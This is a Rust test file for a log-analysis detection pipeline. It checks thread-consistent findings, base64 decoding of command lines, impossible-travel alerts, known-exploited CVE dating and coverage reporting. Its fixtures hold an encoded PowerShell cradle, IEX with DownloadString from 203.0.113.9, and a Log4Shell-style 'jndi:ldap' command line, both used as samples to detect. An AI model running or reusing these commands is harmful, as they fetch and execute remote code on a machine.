//! Analytics through the whole product: what detectors say is the same whatever the threads and files, decoded text is
//! judged and shown beside what it was decoded from, and coverage says what could not have been seen.

use std::fmt::Write as _;
use std::path::Path;

use palisade_model::{Finding, Severity};
use palisade_pipeline::{
    Analytics, Kev, Knowledge, Observer, RuleSources, Settings, Sources, Summary, investigate, load_rules,
};

use crate::hostile::write;

/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')`, as UTF-16 in base64; made elsewhere.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=";

#[derive(Default)]
struct Told(Vec<Finding>);

impl Observer for Told {
    fn finding(&mut self, finding: &Finding, _: &Sources) -> Result<(), String> {
        self.0.push(finding.clone());
        Ok(())
    }
    fn problem(&mut self, problem: &palisade_model::Problem) -> Result<(), String> {
        Err(problem.to_string())
    }
}

fn run(root: &Path, analytics: Analytics, jobs: usize) -> (Vec<Finding>, Summary) {
    let loaded = load_rules(&RuleSources { shipped: true, ..RuleSources::default() }, 2);
    let set = palisade_rules::sigma::RuleSet { rules: loaded.rules, correlations: loaded.correlations };
    let knowledge = Knowledge::with_analytics(set, Vec::new(), &[], false, analytics).unwrap();
    let settings = Settings { paths: vec![root.to_owned()], jobs, ..Settings::default() };
    let mut told = Told::default();
    let summary = investigate(&settings, &knowledge, None, &mut told).unwrap();
    (told.0, summary)
}

fn on() -> Analytics {
    Analytics { on: true, ..Analytics::default() }
}

fn record(channel: &str, id: u32, host: &str, time: &str, fields: &[(&str, &str)]) -> String {
    let mut map = serde_json::json!({
        "Channel": channel, "EventID": id, "Computer": host, "Provider_Name": "Service Control Manager", "TimeCreated": time,
    });
    for (name, value) in fields {
        map[*name] = (*value).into();
    }
    map.to_string()
}

fn process(host: &str, command: &str) -> String {
    let image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let fields = [("Image", image), ("CommandLine", command), ("ParentImage", r"C:\Windows\explorer.exe")];
    record("Microsoft-Windows-Sysmon/Operational", 1, host, "2026-10-14T08:00:00Z", &fields)
}

fn logon(host: &str, time: &str, from: &str) -> String {
    let fields =
        [("LogonType", "3"), ("IpAddress", from), ("TargetUserName", "bob"), ("WorkstationName", "-")];
    record("Security", 4624, host, time, &fields)
}

fn evidence(root: &Path) {
    let ours = |host: &str, ip: &str| {
        let fields = [
            ("Initiated", "true"),
            ("SourceIp", ip),
            ("DestinationIp", "10.0.0.250"),
            ("Image", r"C:\x.exe"),
        ];
        record("Microsoft-Windows-Sysmon/Operational", 3, host, "2026-10-14T07:00:00Z", &fields)
    };
    let service = [("ServiceName", "x"), ("ImagePath", r"C:\x.exe")];
    let files = [
        ("ws1.json", vec![ours("WS1", "10.0.0.1"), process("WS1", &format!("powershell -e {ENCODED}"))]),
        (
            "srv1.json",
            vec![
                ours("SRV1", "10.0.0.2"),
                logon("SRV1", "2026-10-14T08:00:00Z", "10.0.0.1"),
                record("System", 7045, "SRV1", "2026-10-14T08:01:00Z", &service),
            ],
        ),
        ("dc1.json", vec![logon("DC1", "2026-10-14T08:30:00Z", "10.0.0.2")]),
        (
            "old.json",
            vec![record(
                "Security",
                4688,
                "OLD",
                "2026-10-14T08:00:00Z",
                &[("NewProcessName", r"C:\Windows\System32\cmd.exe")],
            )],
        ),
    ];
    for (name, lines) in files {
        write(&root.join(name), format!("{}\n", lines.join("\n")).as_bytes());
    }
}

fn lines(found: &[Finding]) -> String {
    let mut out = String::new();
    for f in found {
        let _ = writeln!(
            out,
            "{} {} {:?} {:?} {:?} {:?}",
            f.id, f.rule.id, f.time, f.message, f.observables, f.citations
        );
    }
    out
}

fn arg<'f>(f: &'f Finding, name: &str) -> &'f str {
    f.message.args.iter().find(|(n, _)| n == name).map_or("", |(_, v)| v)
}

#[test]
fn threads_change_nothing_and_the_switch_takes_all_away() {
    let dir = tempfile::tempdir().unwrap();
    evidence(dir.path());
    let (one, summary) = run(dir.path(), on(), 1);
    for jobs in [2, 5] {
        assert_eq!(lines(&one), lines(&run(dir.path(), on(), jobs).0), "{jobs}");
    }
    assert!(summary.detectors >= 10);
    let path = one.iter().find(|f| f.message.id == "host.logon_path_executed").unwrap();
    assert_eq!((arg(path, "path"), path.rule.level), ("ws1 -> srv1 -> dc1", Severity::High));
    assert_eq!(path.citations.len(), 3);
    let (alone, summary) = run(dir.path(), Analytics::default(), 2);
    assert_eq!((summary.detectors, summary.hosts.len()), (0, 0));
    assert!(alone.iter().all(|f| f.message.id.starts_with("sigma.") && f.message.id != "sigma.unfolded"));
    let (critical, summary) = run(dir.path(), Analytics { min_level: Some(Severity::Critical), ..on() }, 2);
    assert_eq!(summary.detectors, 1);
    assert!(critical.iter().all(|f| !f.message.id.starts_with("host.")));
}

/// The two logs of one tenant lie beside each other in every case: the one without places hides nothing of the other.
#[test]
fn travel_shows_beside_a_log_without_places() {
    let dir = tempfile::tempdir().unwrap();
    let signed_in = |time: &str, ip: &str, at: (f64, f64), network: u32| {
        serde_json::json!({
            "createdDateTime": time, "id": format!("{time}{ip}"), "userPrincipalName": "a@org.example", "ipAddress": ip,
            "appDisplayName": "Mail", "clientAppUsed": "Browser", "status": {"errorCode": 0}, "autonomousSystemNumber": network,
            "location": {"countryOrRegion": "DE", "geoCoordinates": {"latitude": at.0, "longitude": at.1}},
        })
        .to_string()
    };
    let logged_in = |time: &str, ip: &str| {
        serde_json::json!({
            "CreationTime": time, "Id": format!("{time}{ip}"), "Workload": "AzureActiveDirectory", "Operation": "UserLoggedIn",
            "OrganizationId": "tenant-1", "UserId": "a@org.example", "ClientIP": ip, "ResultStatus": "Success",
        })
        .to_string()
    };
    let entra = [
        signed_in("2026-10-14T08:00:00Z", "192.0.2.1", (52.52, 13.4), 64_500),
        signed_in("2026-10-14T08:30:00Z", "198.51.100.7", (35.68, 139.65), 64_501),
    ];
    let m365 =
        [logged_in("2026-10-14T08:00:02", "192.0.2.1"), logged_in("2026-10-14T08:10:00", "203.0.113.4")];
    write(&dir.path().join("entra.json"), format!("{}\n", entra.join("\n")).as_bytes());
    write(&dir.path().join("m365.json"), format!("{}\n", m365.join("\n")).as_bytes());
    for jobs in [1, 3] {
        let (found, _) = run(dir.path(), on(), jobs);
        let travel = found.iter().filter(|f| f.message.id == "host.impossible_travel").count();
        assert_eq!(travel, 1, "{}", lines(&found));
    }
}

#[test]
fn decoded_text_is_judged_and_shown_with_what_it_was() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("a.json"), process("WS1", &format!("powershell -e {ENCODED}")).as_bytes());
    let (found, _) = run(dir.path(), on(), 1);
    let unfolded: Vec<&Finding> = found.iter().filter(|f| f.message.id == "sigma.unfolded").collect();
    assert!(!unfolded.is_empty(), "{}", lines(&found));
    for f in &unfolded {
        assert!(arg(f, "CommandLine").contains(ENCODED));
        assert_eq!(arg(f, "unfolded_from"), "base64");
        assert!(arg(f, "unfolded").contains("DownloadString('http://203.0.113.9/a.ps1')"));
        assert_eq!(f.citations.len(), 1);
        assert!(f.observables.iter().any(|o| o.to_string() == "ip:203.0.113.9"), "{:?}", f.observables);
    }
    // No rule speaks twice of one record.
    let mut rules: Vec<&str> = found.iter().map(|f| f.rule.id.as_str()).collect();
    rules.sort_unstable();
    let all = rules.len();
    rules.dedup();
    assert_eq!(rules.len(), all);
    // What decodes to nothing of note is no finding.
    let harmless = "dwByAGkAdABlAC0AaABvAHMAdAAgAGgAZQBsAGwAbwAgAHcAbwByAGwAZAA=";
    write(&dir.path().join("a.json"), process("WS1", &format!("powershell -e {harmless}")).as_bytes());
    let (found, _) = run(dir.path(), on(), 1);
    assert!(found.iter().all(|f| f.message.id != "sigma.unfolded"), "{}", lines(&found));
}

#[test]
fn exploited_weaknesses_get_their_dates() {
    let dir = tempfile::tempdir().unwrap();
    let rule = "title: Exploitation of CVE-2021-44228\nid: 3f0d4dd1-8f4c-4f0e-9a55-0a50a5a0b111\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    CommandLine|contains: jndi\n  condition: s\nlevel: high\n";
    write(&dir.path().join("rules/r.yml"), rule.as_bytes());
    let evidence = process("WS1", "java ${jndi:ldap://x}").replace("2026-10-14", "2022-01-09");
    write(&dir.path().join("evidence/a.json"), evidence.as_bytes());
    let list = r#"{"vulnerabilities":[{"cveID":"CVE-2021-44228","dateAdded":"2021-12-10","knownRansomwareCampaignUse":"Known"}]}"#;
    let sources = RuleSources { paths: vec![dir.path().join("rules")], ..RuleSources::default() };
    let loaded = load_rules(&sources, 1);
    let kev = Kev::parse(list).unwrap().0;
    let analytics = Analytics { kev, ..Analytics::default() };
    let knowledge = Knowledge::with_analytics(loaded.rules, Vec::new(), &[], false, analytics).unwrap();
    let settings = Settings { paths: vec![dir.path().join("evidence")], ..Settings::default() };
    let mut told = Told::default();
    investigate(&settings, &knowledge, None, &mut told).unwrap();
    let f = &told.0[0];
    assert_eq!(arg(f, "cve"), "CVE-2021-44228");
    assert_eq!(arg(f, "exploited_listed"), "CVE-2021-44228 on 2021-12-10");
    assert_eq!((arg(f, "days_since_listed"), arg(f, "used_for_ransom")), ("30", "known"));
}

#[test]
fn coverage_says_what_could_not_have_been_seen() {
    let dir = tempfile::tempdir().unwrap();
    evidence(dir.path());
    let (_, summary) = run(dir.path(), on(), 2);
    let of = |id: &str| summary.techniques.iter().find(|t| t.id == id).unwrap();
    // Rules for PowerShell look at processes, which two machines have; cloud rules have nothing to look at.
    let shell = of("T1059.001");
    assert!(shell.could > 0 && shell.hosts >= 2 && shell.hosts < shell.of_hosts, "{shell:?}");
    assert!(shell.without.contains(&"dc1".to_owned()), "{shell:?}");
    let cloud = summary.techniques.iter().find(|t| t.could == 0).unwrap();
    assert!(!cloud.missing.is_empty() && cloud.hosts == 0, "{cloud:?}");
    let host = |name: &str| summary.hosts.iter().find(|h| h.host == name).unwrap();
    assert_eq!(summary.hosts.len(), 4);
    assert_eq!(host("srv1").logs.len(), 3);
    assert!(
        host("dc1").lacks.iter().any(|(name, _)| name == "windows/process_creation"),
        "{:?}",
        host("dc1")
    );
    // A machine whose policy leaves command lines out.
    assert!(host("old").unsaid.iter().any(|u| u.starts_with("command lines")), "{:?}", host("old"));
    assert!(host("ws1").unsaid.is_empty());
}

#[test]
fn files_of_ones_own_take_the_place_of_shipped_ones() {
    let dir = tempfile::tempdir().unwrap();
    evidence(dir.path());
    let shipped = palisade_pipeline::shipped("analytics/logon-path.toml");
    let ids = |analytics: Analytics| -> Vec<String> {
        let (found, _) = run(dir.path(), analytics, 1);
        found
            .iter()
            .map(|f| f.rule.id.clone())
            .filter(|id| id.contains("logon-path") || id == "mine")
            .collect()
    };
    let usual = ids(on());
    assert!(!usual.is_empty());
    let own = |name: &str, text: String| vec![(name.to_owned(), text)];
    let mine = shipped.replace("id = \"palisade.host.logon-path\"", "id = \"mine\"");
    let quiet = palisade_pipeline::shipped("analytics/logon-path-executed.toml")
        .replace("window_seconds = 28800", "window_seconds = 1");
    let both = Analytics {
        own: vec![
            ("logon-path.toml".to_owned(), mine.clone()),
            ("logon-path-executed.toml".to_owned(), quiet),
        ],
        ..on()
    };
    assert!(ids(both).iter().all(|id| id == "mine"));
    let alone = Analytics { own: own("logon-path.toml", mine.clone()), ..Analytics::default() };
    assert!(ids(alone).iter().all(|id| id == "mine"));
    // Under another name it would be there twice, which is said.
    let twice = Analytics { own: own("another.toml", mine), ..on() };
    let set = palisade_rules::sigma::RuleSet { rules: Vec::new(), correlations: Vec::new() };
    let error = Knowledge::with_analytics(set, Vec::new(), &[], false, twice).unwrap_err().to_string();
    assert!(error.contains("twice"), "{error}");
}
